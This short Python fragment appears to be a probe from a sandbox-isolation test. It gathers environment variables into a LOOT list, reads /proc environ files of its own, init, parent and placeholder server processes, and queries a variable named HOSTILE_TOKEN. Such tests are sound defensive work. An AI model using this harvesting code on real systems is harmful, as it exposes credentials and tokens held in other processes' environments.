"""Reads its own environment, that it was started with, and those of its ancestors."""
LOOT.append(repr(dict(os.environ)))
for pid in ("self", "1", os.getppid(), "@SERVER@", "@TRUSTED@"):
    attempt(lambda: open(f"/proc/{pid}/environ", "rb").read())
import ctypes

ctypes.CDLL(None).getenv.restype = ctypes.c_char_p
LOOT.append(repr(ctypes.CDLL(None).getenv(b"HOSTILE_TOKEN")))
